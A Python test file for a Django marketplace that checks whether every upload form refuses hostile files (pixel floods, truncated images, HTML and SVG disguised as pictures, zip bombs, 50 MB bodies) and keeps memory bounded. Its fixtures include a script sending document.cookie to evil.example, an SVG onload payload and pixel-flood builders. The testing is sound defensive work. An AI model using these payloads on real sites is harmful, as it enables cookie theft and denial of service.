"""Hostile files through every page that takes one (issue 20): pixel floods, 50 MB files, HTML and SVG
renamed to pictures, truncated JPEG and PNG, zip bombs. Each comes back as the page with a Russian
error and nothing saved, never a 500, and the memory that handling it takes is bounded.

The checks are tested piece by piece elsewhere: marketplace/tests/test_images.py (clean_image refuses
bombs from the header, decodes big JPEGs at a reduced scale) and catalog/tests/test_digital_checks.py
(sold files: programs by content, zip bombs, path tricks, entry counts, the memory of packing a folder).
Here the same files arrive as a browser sends them, at each form that takes an upload.
"""

import ctypes
import ctypes.util
import gc
import io
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from catalog.models import ProductImage
from catalog.sold_files import digital_folder_pack
from catalog.tests.test_digital_checks import zeros_zip
from marketplace.tests.fuzzing import PAGE_SIDE_EFFECTS, World, database_rows, unexpected_changes, world_in_transaction
from moderation.services.images import image_claims_detect

MB = 1024 * 1024
BOUNDARY = "HostileBoundary7MA4YWxkTrZu0gW"


@pytest.fixture(scope="module")
def _world(django_db_setup, django_db_blocker, tmp_path_factory):
    with world_in_transaction(django_db_blocker, tmp_path_factory) as built:
        yield built


@pytest.fixture
def world(_world, db, settings) -> World:
    settings.MEDIA_ROOT = _world.media
    return _world


# --- the files ------------------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_flood(width=30_000, height=30_000) -> bytes:
    """A PNG whose header declares 900 megapixels (2.7 GB decoded) in under 100 bytes: a pixel flood."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + _chunk(b"IEND", b"")
    )


def jpeg_flood() -> bytes:
    """A real small JPEG with its frame header rewritten to 65 000×65 000 pixels."""
    data = bytearray(jpeg((64, 64)))
    frame = data.index(b"\xff\xc0")  # SOF0: length (2), precision (1), height (2), width (2)
    data[frame + 5 : frame + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(data)


def jpeg(size=(1400, 700), *, noise=False) -> bytes:
    buffer = io.BytesIO()
    picture = Image.effect_noise(size, 60).convert("RGB") if noise else Image.new("RGB", size, "#b4532a")
    picture.save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


def png(size=(1400, 700), *, noise=False) -> bytes:
    buffer = io.BytesIO()
    picture = Image.effect_noise(size, 60).convert("RGB") if noise else Image.new("RGB", size, "#2a7bb4")
    picture.save(buffer, "PNG")
    return buffer.getvalue()


def _two_thirds(data: bytes) -> bytes:
    return data[: len(data) * 2 // 3]


HTML = b"<!doctype html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="1400" height="700" '
    b'onload="alert(document.domain)"><rect width="1400" height="700" fill="#b4532a"/></svg>'
)


IMAGE_REFUSED = "не читается как изображение"
# Logos, banners, «About us» pictures and covers are Django ImageFields: Django's own check (Pillow's
# verify) refuses what it cannot open, before marketplace.images sees the file.
DJANGO_REFUSED = "Загрузите правильное изображение"
TOO_MANY_PIXELS = "слишком много пикселей"
TOO_BIG = "а можно не больше 10 МБ"
NOT_A_PHOTO = "прикрепить можно только фото"  # a message's files: photos and PDFs
A_PAGE = "программа, скрипт или веб-страница"  # a sold file: «…Такие файлы продавать нельзя.»
A_BOMB = "так делают zip-бомбы"


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    content: object  # bytes, or a callable making them (built once, when a test needs them)

    def bytes(self) -> bytes:
        if not callable(self.content):
            return self.content
        if self not in _MADE:
            _MADE[self] = self.content()
        return _MADE[self]


_MADE: dict = {}


PIXEL_FLOOD_PNG = Hostile("pixel flood PNG", "flood.png", png_flood)
PIXEL_FLOOD_JPEG = Hostile("pixel flood JPEG", "flood.jpg", jpeg_flood)
HTML_AS_JPG = Hostile("HTML renamed .jpg", "photo.jpg", HTML)
SVG_AS_PNG = Hostile("SVG renamed .png", "photo.png", SVG)
TRUNCATED_JPEG = Hostile("truncated JPEG", "cut.jpg", lambda: _two_thirds(jpeg(noise=True)))
TRUNCATED_PNG = Hostile("truncated PNG", "cut.png", lambda: _two_thirds(png(noise=True)))
ZIP_BOMB = Hostile("zip bomb", "course.zip", zeros_zip)


# --- where files are uploaded ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    """A form that takes a file: who sends it, where, in which field, beside which valid fields."""

    name: str
    role: str
    url: object
    field: str
    data: object = lambda w: {}
    messages: bool = False  # a message's files: «only photos and PDF» rather than «not an image»
    django_image_field: bool = False

    def __str__(self):
        return self.name


def _product_form(w):
    return {"title": "Шарф", "category": str(w.a.product.category_id), "description": "Льняной.", "price": "1500",
            "discount_percent": "0", "availability": "in_stock", "stock": "3"}  # fmt: skip


def _review_prefix(w):
    return f"item{w.a.order_shipped.items.get().pk}"


IMAGE_TARGETS = [
    Target("product photos", "seller", lambda w: reverse("catalog:cabinet-product-images", args=[w.a.product.pk]),
           "images"),
    Target("photos of a new product", "seller", lambda w: reverse("catalog:cabinet-product-new"), "images",
           _product_form),
    Target("previews of a digital product", "seller",
           lambda w: reverse("catalog:cabinet-product-sold-files", args=[w.a.digital.pk]), "preview-images",
           lambda w: {"form": "preview"}),
    Target("shop logo", "seller", lambda w: reverse("shops:cabinet-images"), "logo", django_image_field=True),
    Target("shop banner", "seller", lambda w: reverse("shops:cabinet-images"), "banner", django_image_field=True),
    Target("«About us» picture", "seller", lambda w: reverse("shops:cabinet-about-image-add"), "image",
           lambda w: {"caption": "Мастерская"}, django_image_field=True),
    Target("collection cover", "seller", lambda w: reverse("shops:cabinet-collection-new"), "cover",
           lambda w: {"name": "Осень", "position": "2"}, django_image_field=True),
    Target("review photos", "buyer",
           lambda w: reverse("orders:review-add", args=[w.a.order_shipped.number, w.a.order_shipped.items.get().pk]),
           "photos", lambda w: {f"{_review_prefix(w)}-rating": "5", f"{_review_prefix(w)}-text": "Отличный шарф!"}),
    Target("complaint photos", "buyer",
           lambda w: reverse("moderation:complaint-new") + f"?order={w.a.order_reviewed.number}", "photos",
           lambda w: {"kind": "quality", "text": "Шарф пришёл с дыркой."}),
    Target("message files", "buyer", lambda w: reverse("messaging:detail", args=[w.a.conversation.pk]), "files",
           lambda w: {"text": "Вот фото"}, messages=True),
]  # fmt: skip
# The review form's fields carry the item's prefix.
_PREFIXED = {"review photos"}

FILE_TARGETS = {
    "product file": Target("product file", "seller",
                           lambda w: reverse("catalog:cabinet-product-files", args=[w.a.product.pk]), "file",
                           lambda w: {"title": "Уход"}),
    "reseller document": Target("reseller document", "seller",
                                lambda w: reverse("catalog:cabinet-product-files", args=[w.a.product.pk]), "document",
                                lambda w: {"form": "reseller"}),
    "sold file": Target("sold file", "seller",
                        lambda w: reverse("catalog:cabinet-product-sold-files", args=[w.a.digital.pk]), "file-file",
                        lambda w: {"form": "file", "file-title": ""}),
    "sold folder": Target("sold folder", "seller",
                          lambda w: reverse("catalog:cabinet-product-sold-files", args=[w.a.digital.pk]),
                          "folder-files", lambda w: {"form": "folder", "folder-title": "Курс"}),
}  # fmt: skip


def _field(target: Target, world) -> str:
    return f"{_review_prefix(world)}-{target.field}" if target.name in _PREFIXED else target.field


def _post(world, target: Target, filename: str, content: bytes):
    data = {**target.data(world), _field(target, world): SimpleUploadedFile(filename, content)}
    return world.client(target.role).post(target.url(world), data)


def _refused(world, target: Target, hostile: Hostile, expected: str):
    """Send the file; the page must come back with ``expected`` among its errors and nothing saved."""
    before = database_rows(PAGE_SIDE_EFFECTS)
    response = _post(world, target, hostile.filename, hostile.bytes())
    after = database_rows(PAGE_SIDE_EFFECTS)
    assert response.status_code in (200, 400), f"{target}: {hostile.name} answered {response.status_code}"
    page = response.content.decode()
    shown = expected in page or (target.django_image_field and DJANGO_REFUSED in page)
    assert shown, f"{target}: {hostile.name} is not refused with «{expected}»"
    assert not unexpected_changes(before, after), f"{target}: {hostile.name} saved {unexpected_changes(before, after)}"


# --- images ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("target", IMAGE_TARGETS, ids=str)
def test_a_real_photo_is_taken(world, target):
    """Each form takes an ordinary photo: what the hostile files get is their own refusal."""
    response = _post(world, target, "photo.jpg", jpeg())
    assert response.status_code == 302, response.content.decode()[-3000:]


@pytest.mark.parametrize("target", IMAGE_TARGETS, ids=str)
@pytest.mark.parametrize(
    ("hostile", "expected"),
    [
        (PIXEL_FLOOD_PNG, TOO_MANY_PIXELS),
        (PIXEL_FLOOD_JPEG, TOO_MANY_PIXELS),
        (HTML_AS_JPG, IMAGE_REFUSED),
        (SVG_AS_PNG, IMAGE_REFUSED),
        (TRUNCATED_JPEG, IMAGE_REFUSED),
        (TRUNCATED_PNG, IMAGE_REFUSED),
    ],
    ids=lambda value: value.name if isinstance(value, Hostile) else "",
)
def test_a_hostile_image_is_refused_with_a_russian_error_and_nothing_saved(world, target, hostile, expected):
    if target.messages and expected == IMAGE_REFUSED:
        expected = NOT_A_PHOTO
    _refused(world, target, hostile, expected)


# --- files that are not pictures ------------------------------------------------------------------------
# Sold files are checked by content (catalog.digital). A product's files and the reseller document are
# taken whatever they hold and defused instead: a page renamed .png is stored as .bin and only ever sent
# as an application/octet-stream download (catalog/tests/test_files.py); here they get the 50 MB test.


@pytest.mark.parametrize(
    ("target", "hostile", "expected"),
    [
        ("sold file", HTML_AS_JPG, A_PAGE),
        ("sold file", SVG_AS_PNG, A_PAGE),
        ("sold file", ZIP_BOMB, A_BOMB),
        ("sold folder", ZIP_BOMB, A_BOMB),
        ("sold folder", Hostile("HTML renamed .pdf", "page-1.pdf", HTML), A_PAGE),
    ],
    ids=lambda value: value.name if isinstance(value, Hostile) else value if value in FILE_TARGETS else "",
)
def test_a_hostile_file_is_refused_with_a_russian_error_and_nothing_saved(world, target, hostile, expected):
    _refused(world, FILE_TARGETS[target], hostile, expected)


@pytest.mark.parametrize("target", FILE_TARGETS, ids=str)
def test_an_ordinary_file_is_taken(world, target):
    response = _post(world, FILE_TARGETS[target], "care.pdf", b"%PDF-1.7\n" + bytes(2000) + b"\n%%EOF\n")
    assert response.status_code == 302


# --- 50 MB, streamed as a browser sends it ----------------------------------------------------------------


class StreamedBody:
    """A multipart body made as it is read (``wsgi.input``): 50 MB never sit in this process at once,
    so what the server side holds can be measured apart from what the test sends."""

    CHUNK = 64 * 1024

    def __init__(self, fields: dict, file_field: str, filename: str, head: bytes, size: int):
        prefix = b"".join(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
            for name, value in fields.items()
        )
        prefix += (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{filename}"\r\n'
            f"Content-Type: application/octet-stream\r\n\r\n"
        ).encode() + head
        self.parts = [prefix, None, f"\r\n--{BOUNDARY}--\r\n".encode()]
        self.filler = size - len(head)
        self.length = len(prefix) + self.filler + len(self.parts[2])
        self.position = 0

    def read(self, size=-1):
        if size is None or size < 0:
            size = self.length - self.position
        out = bytearray()
        while size > 0 and self.position < self.length:
            piece = self._piece(min(size, self.CHUNK))
            out += piece
            size -= len(piece)
            self.position += len(piece)
        return bytes(out)

    def _piece(self, size: int) -> bytes:
        prefix, suffix = self.parts[0], self.parts[2]
        if self.position < len(prefix):
            return prefix[self.position : self.position + size]
        filled = self.position - len(prefix)
        if filled < self.filler:
            return b"\x5a" * min(size, self.filler - filled)
        done = self.position - len(prefix) - self.filler
        return suffix[done : done + size]

    def readline(self, size=-1):  # Django reads a multipart body by chunks; kept for completeness
        return self.read(size)


def _stream_post(world, target: Target, filename: str, head: bytes, size: int):
    """POST a ``size``-byte file through the real WSGI handler, its body generated as it is read."""
    client = world.client(target.role)
    url = urlsplit(target.url(world))
    fields = target.data(world)
    body = StreamedBody(fields, _field(target, world), filename, head, size)
    environ = client._base_environ(**{
        "REQUEST_METHOD": "POST", "PATH_INFO": url.path, "QUERY_STRING": url.query, "wsgi.input": body,
        "CONTENT_TYPE": f"multipart/form-data; boundary={BOUNDARY}", "CONTENT_LENGTH": str(body.length),
    })  # fmt: skip
    return client.handler(environ)


def _memory_growth(action) -> tuple[object, int]:
    """(what ``action`` returned, how far this process's resident memory peaked above where it was).

    Linux's peak-RSS counter is reset first (/proc/self/clear_refs), so C allocations count too: Pillow
    decodes pixels outside Python's own allocator, where tracemalloc would not see them.
    """
    gc.collect()
    _LIBC.malloc_trim(0)  # memory freed by earlier tests goes back to the system, so new use shows
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        pytest.skip("needs Linux's /proc/self/clear_refs to reset the peak memory counter")
    before = _status_kb("VmRSS")
    result = action()
    return result, (_status_kb("VmHWM") - before) * 1024


class _NoLibc:
    @staticmethod
    def malloc_trim(pad):
        return 0


def _libc():
    try:
        return ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6")
    except OSError:
        return _NoLibc()


_LIBC = _libc()
if not hasattr(_LIBC, "malloc_trim"):  # not glibc
    _LIBC = _NoLibc()


def _status_kb(key: str) -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1])
    raise LookupError(key)


FIFTY_MB = 50 * MB
# Refusing a file costs the page and the check, never the file: a 50 MB upload streams to a temporary
# file (FILE_UPLOAD_MAX_MEMORY_SIZE is 5 MB), and images are refused from their header.
REFUSAL_BOUND = 40 * MB


@pytest.mark.parametrize("target", [*IMAGE_TARGETS, FILE_TARGETS["product file"], FILE_TARGETS["reseller document"]],
                         ids=str)  # fmt: skip
def test_a_50_mb_upload_is_refused_naming_the_limit_without_holding_it_in_memory(world, target):
    before = database_rows(PAGE_SIDE_EFFECTS)
    response, growth = _memory_growth(lambda: _stream_post(world, target, "huge.jpg", jpeg((64, 64)), FIFTY_MB))
    assert response.status_code in (200, 400)
    page = response.content.decode()
    assert TOO_BIG in page and "50,0 МБ" in page
    assert not unexpected_changes(before, database_rows(PAGE_SIDE_EFFECTS))
    assert growth < REFUSAL_BOUND, f"{target}: {growth / MB:.0f} MB to refuse a 50 MB upload"


def test_a_50_mb_sold_file_is_taken_without_holding_it_in_memory(world):
    """Digital goods may be up to DIGITAL_MAX_FILE_BYTES (200 MB): 50 MB is stored, streamed."""
    target = FILE_TARGETS["sold file"]
    response, growth = _memory_growth(lambda: _stream_post(world, target, "курс.pdf", b"%PDF-1.7\n", FIFTY_MB))
    assert response.status_code == 302
    assert world.a.digital.digital_files.get(title="курс").size == FIFTY_MB
    assert growth < REFUSAL_BOUND, f"{growth / MB:.0f} MB to store a 50 MB sold file"


@pytest.mark.parametrize("hostile", [PIXEL_FLOOD_PNG, PIXEL_FLOOD_JPEG, TRUNCATED_PNG, ZIP_BOMB], ids=lambda h: h.name)
def test_refusing_the_worst_files_takes_little_memory(world, hostile):
    target = IMAGE_TARGETS[0] if hostile is not ZIP_BOMB else FILE_TARGETS["sold folder"]
    content = hostile.bytes()
    response, growth = _memory_growth(lambda: _post(world, target, hostile.filename, content))
    assert response.status_code in (200, 400)
    assert growth < REFUSAL_BOUND, f"{hostile.name}: {growth / MB:.0f} MB"


# The largest photo taken: 25 megapixels (marketplace.images.MAX_PIXELS) as a PNG, which is decoded whole:
# Pillow keeps RGB in 32-bit pixels, so 100 MB, then ~40 MB more to scale it to 2000 px. (It was 190 MB
# while exif_transpose copied every decoded pixel.) Photos of one upload are decoded one after another.
ACCEPTED_BOUND = 170 * MB


@pytest.mark.parametrize("count", [1, 3])
def test_the_largest_photos_taken_stay_under_the_bound(world, count):
    content = png((5000, 5000))  # one colour: an 84 KB file with the most pixels allowed
    photos = [SimpleUploadedFile(f"big-{n}.png", content) for n in range(count)]
    client, url = world.client("seller"), IMAGE_TARGETS[0].url(world)
    response, growth = _memory_growth(lambda: client.post(url, {"images": photos}))
    assert response.status_code == 302
    assert world.a.product.images.count() == 2 + count
    assert growth < ACCEPTED_BOUND, f"{growth / MB:.0f} MB for {count} photo(s) of 25 MP"


def test_the_jobs_after_an_upload_stay_under_the_bound(world, django_capture_on_commit_callbacks):
    """What runs after the upload (on commit, or in the worker): the photo's moderation checks and
    thumbnails, and packing a sold folder into its zip. They read stored files, already cleaned."""
    product = world.a.product
    response = _post(world, IMAGE_TARGETS[0], "big.png", png((5000, 5000)))
    assert response.status_code == 302
    photo = ProductImage.objects.filter(product=product).latest("pk")

    def photo_jobs():
        image_claims_detect(image_id=photo.pk)
        for spec in ("card", "large", "thumb"):
            getattr(photo, spec).generate(force=True)

    _, growth = _memory_growth(photo_jobs)
    assert growth < 60 * MB, f"{growth / MB:.0f} MB for the photo's checks and thumbnails"

    files = [SimpleUploadedFile(f"лист-{n}.pdf", b"%PDF-1.7\n" + bytes(3 * MB)) for n in range(5)]
    data = {**FILE_TARGETS["sold folder"].data(world), "folder-files": files}
    with django_capture_on_commit_callbacks(execute=False):
        response = world.client("seller").post(FILE_TARGETS["sold folder"].url(world), data)
    assert response.status_code == 302
    folder = world.a.digital.digital_files.get(title="Курс")
    _, growth = _memory_growth(lambda: digital_folder_pack(folder_id=folder.pk))
    assert growth < 40 * MB, f"{growth / MB:.0f} MB to pack a 15 MB folder"
